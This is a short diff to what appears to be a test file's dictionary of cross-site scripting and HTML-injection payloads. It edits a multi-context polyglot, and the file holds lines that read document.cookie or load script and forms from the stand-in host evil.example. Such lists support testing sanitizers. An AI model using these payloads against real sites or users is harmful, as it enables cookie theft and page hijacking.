@@ -6,7 +6,7 @@ PAYLOADS = {
     "script in a picture": "<img src=x onerror=alert(1)>",
     "script in a drawing": "<svg/onload=alert(1)>",
     "script in an address": "javascript:alert(document.cookie)",
-    "script in several contexts": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>",
+    "script in several contexts": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/--!>",
     "script, half closed": "</textarea></form><script src=//evil.example/x.js",
     "HTML": "<h1>Big</h1><iframe src='https://evil.example'></iframe><form action='https://evil.example'>",
     "HTML, as entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
